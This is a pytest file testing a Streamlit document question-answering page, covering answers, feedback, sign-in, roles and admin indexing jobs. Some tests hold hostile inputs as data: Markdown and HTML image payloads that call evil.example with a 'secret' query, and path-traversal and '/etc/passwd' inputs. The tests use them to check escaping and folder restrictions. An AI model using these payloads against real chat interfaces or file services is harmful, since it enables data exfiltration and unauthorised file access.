"""The web page's logic with Streamlit's AppTest (the real script, index, models and SQLite files):
asking, sources, feedback, follow-ups, clear errors, sign-in and roles, admin jobs and allowed folders."""

from __future__ import annotations

import csv
import io
import os
import shutil
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from ingest.job import run_ingest
from rag.followup import standalone_question
from rag.qa import Answer, SentenceSupport
from rag.sentences import sentence_spans
from rag.settings import load_settings
from tests.conftest import REPO, SAMPLES
from ui.appdb import AppDB
from ui.auth import add_user, load_users, verify
from ui.jobs import JobBusyError, JobManager, PathNotAllowedError, allowed_path
from ui.web.render import answer_markup, safe

APP = str(REPO / "ui" / "web" / "app.py")
LUNCH = "When is lunch served in the cafeteria?"


@pytest.fixture(scope="module")
def sample_index(tmp_path_factory: pytest.TempPathFactory, embedder) -> Path:  # type: ignore[no-untyped-def]
    index = tmp_path_factory.mktemp("ui") / "index"
    run_ingest(load_settings(index_dir=index, device="cpu"), [SAMPLES], embedder=embedder, progress=False)
    return index


@pytest.fixture()
def app(page_env: Callable[..., None], served_on: Callable[[str], None]) -> Callable[..., AppTest]:
    """An AppTest of ui/web/app.py configured through RAG_* variables, as `rag ui` would be."""

    def make(**env: str) -> AppTest:
        page_env(**env)
        served_on("127.0.0.1")  # what `rag ui` passes in single-user mode; the page refuses any other address
        at = AppTest.from_file(APP, default_timeout=180)
        at.run()
        return at

    return make


def shown_errors(at: AppTest) -> list[str]:
    """The error messages of the conversation (shown as escaped text, not Markdown)."""
    return [h.value for h in at.get("html") if "rag-error" in h.value]


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


@pytest.mark.slow
def test_a_question_gets_a_streamed_answer_with_sources_and_feedback(app, sample_index: Path, tmp_path: Path) -> None:
    at = app(RAG_INDEX_DIR=str(sample_index))
    ask(at, LUNCH)
    shown = [h.value for h in at.get("html")]  # answer and passage: escaped HTML, no Markdown at all
    assert any("11:30" in h for h in shown), shown
    assert "cafeteria\\.html" in at.expander[0].label  # labels are Markdown: escaped
    assert any("index version 1" in c.value and "SmolLM2" in c.value for c in at.caption)

    at.text_input(key="comment-0").set_value("right on")
    at.button(key="up-0").click().run()
    assert any("Thank you" in c.value for c in at.caption)
    rows = list(csv.DictReader(io.StringIO(AppDB(tmp_path / "app.sqlite").feedback_csv())))
    assert len(rows) == 1 and rows[0]["rating"] == "1" and rows[0]["comment"] == "right on"
    assert rows[0]["question"] == LUNCH and "cafeteria.html" in rows[0]["sources"]
    audit = list(csv.DictReader(io.StringIO(AppDB(tmp_path / "app.sqlite").audit_csv())))
    assert [(a["username"], a["question"], a["outcome"]) for a in audit] == [("local", LUNCH, "answered")]
    assert "cafeteria.html" in audit[0]["shown"]


@pytest.mark.slow
def test_conversations_survive_a_reload_and_can_be_renamed_and_deleted(app, sample_index: Path) -> None:
    ask(app(RAG_INDEX_DIR=str(sample_index)), LUNCH)
    at = app(RAG_INDEX_DIR=str(sample_index))  # a reload: a new session, nothing in memory
    assert not at.get("html") or not any("11:30" in h.value for h in at.get("html"))
    [reopen] = [b for b in at.sidebar.button if b.label.startswith(LUNCH[:40])]
    reopen.click().run()
    assert any("11:30" in h.value for h in at.get("html"))  # the answer, with its sources, is back
    conversation = at.session_state["conversation"]
    at.sidebar.text_input(key=f"rename-{conversation}").set_value("Lunch hours").run()
    at.sidebar.button(key="rename-conversation").click().run()
    assert any(b.label.startswith("Lunch hours") for b in at.sidebar.button)
    at.sidebar.button(key="delete-conversation").click().run()
    assert not any(b.label.startswith("Lunch hours") for b in at.sidebar.button) and not at.get("html")


def test_audit_log_keeps_entries_for_the_retention_period(tmp_path: Path, app_db_at) -> None:  # type: ignore[no-untyped-def]
    now = [1_700_000_000.0]
    db = AppDB(app_db_at[0], audit_retention_days=1, clock=lambda: now[0], password_file=app_db_at[1])
    db.audit("ada", "old question", "old question", "answered", [])
    now[0] += 2 * 86400  # two days later
    db.audit("ada", "new question", "new question", "abstained", [])
    assert [r["question"] for r in csv.DictReader(io.StringIO(db.audit_csv()))] == ["new question"]
    off = AppDB(tmp_path / "off.sqlite", audit_retention_days=0)
    off.audit("ada", "q", "q", "answered", [])
    assert len(off.audit_csv().splitlines()) == 1  # the header only


@pytest.mark.slow
def test_a_follow_up_is_searched_with_the_question_it_refers_to(app, sample_index: Path) -> None:
    at = ask(app(RAG_INDEX_DIR=str(sample_index)), "How many vacation days do new employees get?")
    ask(at, "Can they carry them over?")
    assert any("Searched for" in c.value and "vacation days" in c.value for c in at.caption)


def test_follow_up_rewrite() -> None:
    history = ["How many vacation days do new employees get?"]
    assert standalone_question([], "Can they carry them over?") == "Can they carry them over?"
    assert standalone_question(history, "When is lunch served?") == "When is lunch served?"
    assert standalone_question(history, "Can they carry them over?") == (
        'Regarding "How many vacation days do new employees get?": Can they carry them over?')


def test_clear_messages_instead_of_stack_traces(app, sample_index: Path, tmp_path: Path) -> None:
    empty = ask(app(RAG_INDEX_DIR=str(tmp_path / "nothing-indexed-yet")), LUNCH)
    assert any("No documents have been indexed yet" in e for e in shown_errors(empty))

    missing = app(RAG_INDEX_DIR=str(sample_index), RAG_GENERATOR_MODEL=str(tmp_path / "dolly-v2-7b"))
    assert not missing.exception
    assert "cannot start" in missing.error[0].value and "huggingface-cli download" in missing.error[0].value


def test_a_busy_generator_is_reported(app, sample_index: Path) -> None:
    at = app(RAG_INDEX_DIR=str(sample_index), RAG_MAX_CONCURRENT_GENERATIONS="1", RAG_GENERATION_QUEUE_S="0")
    from ui.web.page import app_state

    # the same settings give the process-wide state the page uses (st.cache_resource): take its only slot
    state = app_state(load_settings().model_dump_json())
    slots = state.service.generator.slots
    slots.acquire()
    try:
        ask(at, LUNCH)
    finally:
        slots.release()
    assert any("busy" in e for e in shown_errors(at))


def test_answers_are_text_never_markup() -> None:
    hostile = "See ![x](https://evil.example/?q=secret) and <img src=https://evil.example/a.png> [link](http://x.y)"
    shown = safe(hostile)
    assert "<img" not in shown and "](" not in shown and "![" not in shown
    text = "Lunch is at noon [1]. The CEO plays violin."
    (a, b), (c, d) = sentence_spans(text)
    answer = Answer("q", text, False, support=[SentenceSupport(text[a:b], True, 0.9, 1.0, 1, "x", a, b),
                                               SentenceSupport(text[c:d], False, 0.1, 0.0, 1, "x", c, d)])
    markup = answer_markup(answer)
    assert markup.count("<span") == 1 and "The CEO plays violin.</span>" in markup


def users_file(tmp_path: Path) -> Path:
    path = tmp_path / "users.yaml"
    add_user(path, "ada", "correct horse", "Ada Admin", ["user", "admin"], ["it"])
    add_user(path, "bob", "battery staple", "Bob User", ["user"], ["sales"])
    return path


def test_users_file_stores_only_hashes(tmp_path: Path) -> None:
    path = users_file(tmp_path)
    assert "correct horse" not in path.read_text() and "$2b$" in path.read_text()
    users = load_users(path)
    assert verify(users, "ada", "correct horse").is_admin  # type: ignore[union-attr]
    assert verify(users, "ada", "wrong") is None and verify(users, "eve", "correct horse") is None


def test_sign_in_and_roles(app, sample_index: Path, tmp_path: Path) -> None:
    at = app(RAG_INDEX_DIR=str(sample_index), RAG_UI_USERS_FILE=str(users_file(tmp_path)))
    assert not at.chat_input  # nothing but the sign-in form
    at.text_input[0].set_value("bob")
    at.text_input[1].set_value("wrong password")
    at.button[0].click().run()
    assert "wrong password" in at.error[0].value and not at.chat_input
    at.text_input[1].set_value("battery staple")
    at.button[0].click().run()
    assert at.chat_input and any("Bob User" in c.value for c in at.sidebar.caption)

    from ui.web.page import pages_for

    assert [p.title for p in pages_for(at.session_state["user"])] == ["Ask"]
    ada = verify(load_users(tmp_path / "users.yaml"), "ada", "correct horse")
    assert [p.title for p in pages_for(ada)] == ["Ask", "Index a folder", "Documents", "Insights"]  # type: ignore[arg-type]


def test_allowed_folders(tmp_path: Path) -> None:
    root = tmp_path / "shared"
    (root / "hr").mkdir(parents=True)
    outside = tmp_path / "secret"
    outside.mkdir()
    (root / "link-out").symlink_to(outside)
    assert allowed_path(str(root / "hr"), [root]) == root / "hr"
    assert allowed_path("hr", [root]) == root / "hr"
    # a name longer than the file system allows (Schemathesis sent one to POST /v1/ingest: a 500 then)
    for bad in (str(outside), str(root / "hr" / ".." / ".." / "secret"), str(root / "link-out"), "/etc", "0" * 4096):
        with pytest.raises(PathNotAllowedError):
            allowed_path(bad, [root])
    with pytest.raises(PathNotAllowedError, match="RAG_UI_ALLOWED_ROOTS"):
        allowed_path(str(root), [])


def test_admin_jobs_run_one_at_a_time_and_record_their_runs(make_settings, embedder, tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    shutil.copytree(SAMPLES, docs)
    settings = make_settings(ui_allowed_roots=[docs], app_db=tmp_path / "app.sqlite")
    db = AppDB(settings.app_db)
    jobs = JobManager(settings, embedder, db)
    job = jobs.start_ingest(str(docs), "ada")
    with pytest.raises(JobBusyError, match="already running"):
        jobs.start_ingest(str(docs), "bob")
    while job.running:
        time.sleep(0.1)
    assert not job.error and job.summary and job.summary["files_indexed"] == 12
    assert job.files_done == job.files_total == 12

    removal = jobs.start_removal([str(docs / "intranet")], "ada")
    while removal.running:
        time.sleep(0.1)
    assert removal.summary and removal.summary["documents_removed"] >= 1 and removal.summary["version"] == 2
    runs = db.last_runs()
    assert [(r.kind, r.status, r.username) for r in runs] == [("remove", "done", "ada"), ("ingest", "done", "ada")]


def test_streamlit_config_keeps_everything_in_house() -> None:
    import tomllib

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert config["browser"]["gatherUsageStats"] is False
    assert config["server"]["enableXsrfProtection"] is True and config["server"]["enableStaticServing"] is False
    assert os.path.isfile(REPO / "ui" / "web" / "icon.png")  # the favicon is served by the app, not fetched from Google


def test_progress_reports_the_scan_then_each_file_then_publishing(make_settings, embedder, tmp_path: Path) -> None:
    from ingest.job import IngestProgress

    reports: list[IngestProgress] = []
    run_ingest(make_settings(), [SAMPLES], embedder=embedder, progress=False, on_progress=reports.append)
    phases = [r.phase for r in reports]
    assert phases[0] == "scanning" and phases[-1] == "publishing" and "indexing" in phases
    indexing = [r for r in reports if r.phase == "indexing"]
    assert all(r.files_seen == 12 for r in indexing)  # the total is known as soon as indexing starts
    assert [r.files_done for r in indexing] == sorted(r.files_done for r in indexing) and indexing[-1].files_done == 12


def test_removal_is_checked_before_it_starts(make_settings, embedder, tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    shutil.copytree(SAMPLES / "intranet", docs)
    settings = make_settings(ui_allowed_roots=[docs])
    run_ingest(settings, [docs], embedder=embedder, progress=False)
    jobs = JobManager(settings, embedder, AppDB(tmp_path / "app.sqlite"))
    from rag.index import IndexReader

    reader = IndexReader(settings.index)
    reader.refresh()
    view = reader.view
    assert view is not None
    assert jobs.indexed_under([str(docs / "cafeteria.html")], view) == 1
    assert jobs.indexed_under([str(docs)], view) == len(list(docs.iterdir()))
    assert jobs.indexed_under([str(docs / "cafetria.html")], view) == 0  # a typo: reported, no job
    with pytest.raises(PathNotAllowedError, match="add it to the setting RAG_UI_ALLOWED_ROOTS"):
        jobs.indexed_under(["/etc/passwd"], view)
    with pytest.raises(PathNotAllowedError, match="add it to the setting RAG_UI_ALLOWED_ROOTS"):
        jobs.start_ingest(str(tmp_path), "ada")


def test_the_empty_index_message_says_what_to_do_in_a_users_words() -> None:
    from rag.index import IndexNotFoundError
    from ui.auth import LOCAL_ADMIN, User
    from ui.web.page import friendly_error

    error = IndexNotFoundError(Path("/srv/index"))
    assert "choose \u201cIndex a folder\u201d in the menu" in friendly_error(error, LOCAL_ADMIN)
    staff = User("bob", "Bob", ("user",), ("sales",))
    assert friendly_error(error, staff) == ("No documents have been indexed yet: ask an administrator to index "
                                            "your team's documents.")
    assert "/srv/index" not in friendly_error(error, staff)


def test_job_messages_show_file_names_from_a_share_as_text() -> None:
    """A staff member who can write to a share names a folder `![x](https:` with `evil.example/p.png)` below
    it: the admin who removes or indexes it must see the name, not an image fetched from evil.example."""

    def script() -> None:
        from ui.jobs import Job
        from ui.web.page import job_status

        hostile = "/srv/share/![x](https:/evil.example/p.png)"
        running = Job(1, "ada", "ingest", [hostile], phase="indexing", files_done=1, files_total=2)
        done = Job(2, "ada", "remove", [hostile], finished=1.0, summary={"documents_removed": 1, "version": 3})
        failed = Job(3, "ada", "ingest", [hostile], finished=1.0, error=f"{hostile} cannot be read")
        for job in (running, done, failed):
            job_status(job)

    at = AppTest.from_function(script, default_timeout=60).run()
    assert not at.exception, at.exception
    shown = [at.success[0].value, at.error[0].value, *(e.proto.text for e in at.get("progress"))]
    assert len(shown) == 3
    for text in shown:
        assert "evil" in text and "![x](" not in text and "](https" not in text, text


def test_an_ingest_job_shows_pages_of_only_navigation_as_skipped_not_failed(make_settings, embedder, tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """The admin's page after a real ingest job over a manual's table of contents: counted as skipped and
    listed with its reason, not among the failures."""
    import json

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "guide.html").write_text("<html><body><h1>Guide</h1><p>Badges are renewed every spring.</p></body></html>")
    (docs / "contents.html").write_text('<html><body><div class="toc"><ul><li><a href="guide.html">Guide</a></li>'
                                        "</ul></div></body></html>")
    settings = make_settings(ui_allowed_roots=[docs], app_db=tmp_path / "app.sqlite")
    job = JobManager(settings, embedder, AppDB(settings.app_db)).start_ingest(str(docs), "ada")
    while job.running:
        time.sleep(0.1)
    assert not job.error and job.summary
    monkeypatch.setenv("TEST_JOB_SUMMARY", json.dumps(job.summary))

    def script() -> None:
        import json
        import os

        from ui.jobs import Job
        from ui.web.page import job_status

        job_status(Job(1, "ada", "ingest", ["/srv/docs"], finished=1.0, summary=json.loads(os.environ["TEST_JOB_SUMMARY"])))

    at = AppTest.from_function(script, default_timeout=60).run()
    assert not at.exception, at.exception
    assert "1 indexed" in at.success[0].value and "0 failed, 1 skipped" in at.success[0].value
    assert "nothing to index" in at.info[0].value
    [table] = at.dataframe
    assert list(table.value["path"]) == [str(docs / "contents.html")]
    assert "only navigation" in table.value["error"][0]
